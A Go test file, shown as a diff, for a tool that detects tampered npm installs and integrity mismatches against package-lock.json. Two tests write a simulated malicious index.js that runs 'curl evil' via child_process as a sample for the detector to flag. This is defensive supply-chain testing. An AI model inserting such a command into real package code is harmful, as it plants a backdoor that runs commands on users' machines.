@@ -0,0 +1,193 @@
+package main
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha512"
+	"encoding/base64"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// packTarball builds a gzipped npm-style tarball with files nested under package/
+func packTarball(t *testing.T, files map[string]string) []byte {
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, content := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write([]byte(content)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// Test that an installed file modified after install is flagged against the locked integrity
+func TestVerifyInstalledDrift(t *testing.T) {
+	files := map[string]string{
+		"package.json": `{"name": "left-pad", "version": "1.3.0"}`,
+		"index.js":     "module.exports = leftPad;\n",
+	}
+	tarball := packTarball(t, files)
+	sum := sha512.Sum512(tarball)
+	integrity := "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write(tarball)
+	}))
+	defer server.Close()
+
+	root := t.TempDir()
+	lockfile := filepath.Join(root, "package-lock.json")
+	content := fmt.Sprintf(`{"lockfileVersion": 3, "packages": {
+		"": {"name": "app"},
+		"node_modules/left-pad": {"version": "1.3.0", "resolved": "%s/left-pad-1.3.0.tgz", "integrity": "%s"}
+	}}`, server.URL, integrity)
+	if err := os.WriteFile(lockfile, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	installDir := filepath.Join(root, "node_modules", "left-pad")
+	if err := os.MkdirAll(installDir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	// Older npm versions add _-prefixed fields to the installed manifest
+	installed := map[string]string{
+		"package.json": `{"name": "left-pad", "version": "1.3.0", "_resolved": "elsewhere"}`,
+		"index.js":     files["index.js"],
+	}
+	for name, data := range installed {
+		if err := os.WriteFile(filepath.Join(installDir, name), []byte(data), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	client := server.Client()
+	results, errs := verifyInstalled([]string{lockfile}, client)
+	if len(errs) > 0 || len(results) != 0 {
+		t.Fatalf("Expected an untouched install to verify cleanly, got %+v, %v", results, errs)
+	}
+
+	if err := os.WriteFile(filepath.Join(installDir, "index.js"), []byte("require('child_process').exec('curl evil');\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	results, errs = verifyInstalled([]string{lockfile}, client)
+	if len(errs) > 0 {
+		t.Fatalf("Unexpected errors: %v", errs)
+	}
+	if len(results) != 1 || len(results[0].Packages) != 1 {
+		t.Fatalf("Expected one drift finding, got %+v", results)
+	}
+	finding := results[0].Packages[0]
+	if !finding.IsSuspicious || finding.Name != "left-pad" || !strings.Contains(finding.Notice, "index.js (modified)") {
+		t.Errorf("Expected left-pad's index.js to be reported as modified, got %+v", finding)
+	}
+}
+
+// Test that a tarball not matching the locked integrity is refused rather than trusted
+func TestVerifyInstalledIntegrityMismatch(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write(packTarball(t, map[string]string{"index.js": "swapped"}))
+	}))
+	defer server.Close()
+
+	root := t.TempDir()
+	lockfile := filepath.Join(root, "package-lock.json")
+	content := fmt.Sprintf(`{"lockfileVersion": 3, "packages": {
+		"node_modules/left-pad": {"version": "1.3.0", "resolved": "%s/left-pad-1.3.0.tgz", "integrity": "sha512-AAAA"}
+	}}`, server.URL)
+	if err := os.WriteFile(lockfile, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Join(root, "node_modules", "left-pad"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, errs := verifyInstalled([]string{lockfile}, server.Client()); len(errs) != 1 {
+		t.Errorf("Expected an integrity error, got %v", errs)
+	}
+}
+
+// Test that installs sharing an integrity download the tarball once but are each compared
+func TestVerifyInstalledSharedTarball(t *testing.T) {
+	files := map[string]string{
+		"package.json": `{"name": "left-pad", "version": "1.3.0"}`,
+		"index.js":     "module.exports = leftPad;\n",
+	}
+	tarball := packTarball(t, files)
+	sum := sha512.Sum512(tarball)
+	integrity := "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
+
+	downloads := 0
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		downloads++
+		w.Write(tarball)
+	}))
+	defer server.Close()
+
+	var lockfiles []string
+	for _, project := range []string{"api", "web"} {
+		dir := filepath.Join(t.TempDir(), project)
+		installDir := filepath.Join(dir, "node_modules", "left-pad")
+		if err := os.MkdirAll(installDir, 0755); err != nil {
+			t.Fatal(err)
+		}
+		for name, data := range files {
+			if project == "web" && name == "index.js" {
+				data = "require('child_process').exec('curl evil');\n"
+			}
+			if err := os.WriteFile(filepath.Join(installDir, name), []byte(data), 0644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		lockfile := filepath.Join(dir, "package-lock.json")
+		content := fmt.Sprintf(`{"lockfileVersion": 3, "packages": {
+			"node_modules/left-pad": {"version": "1.3.0", "resolved": "%s/left-pad-1.3.0.tgz", "integrity": "%s"}
+		}}`, server.URL, integrity)
+		if err := os.WriteFile(lockfile, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		lockfiles = append(lockfiles, lockfile)
+	}
+
+	results, errs := verifyInstalled(lockfiles, server.Client())
+	if len(errs) > 0 {
+		t.Fatalf("Unexpected errors: %v", errs)
+	}
+	if downloads != 1 {
+		t.Errorf("Expected the shared tarball to be downloaded once, got %d downloads", downloads)
+	}
+	if len(results) != 1 || results[0].LockFile != lockfiles[1] || !strings.Contains(results[0].Packages[0].Notice, "index.js (modified)") {
+		t.Errorf("Expected drift reported only for the modified web install, got %+v", results)
+	}
+}
+
+// Test that a tarball larger than the cap is refused before it is read in full
+func TestFetchVerifiedTarballTooLarge(t *testing.T) {
+	defer func(size int) { maxTarballSize = size }(maxTarballSize)
+	maxTarballSize = 16
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write(bytes.Repeat([]byte("x"), 64))
+	}))
+	defer server.Close()
+
+	if _, err := fetchVerifiedTarball(server.Client(), server.URL+"/left-pad-1.3.0.tgz", "sha512-AAAA"); err == nil || !strings.Contains(err.Error(), "larger than") {
+		t.Errorf("Expected an oversized tarball to be refused, got %v", err)
+	}
+}